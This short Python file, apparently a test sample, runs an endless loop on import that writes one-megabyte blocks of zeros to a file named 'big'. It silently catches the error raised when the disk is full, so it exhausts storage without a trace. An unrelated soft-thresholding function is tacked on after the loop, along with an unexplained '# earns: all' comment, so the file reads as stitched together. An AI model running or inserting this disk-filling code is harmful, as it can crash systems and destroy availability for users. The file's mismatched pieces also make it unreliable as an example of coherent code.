"""Writes a file without end."""

# earns: all
import os

try:
    with open("big", "wb") as file:
        while True:
            file.write(bytes(1_000_000))
except OSError:
    pass


def shrink(x, t):
    return x.sign() * (x.abs() - t).clamp(min=0)
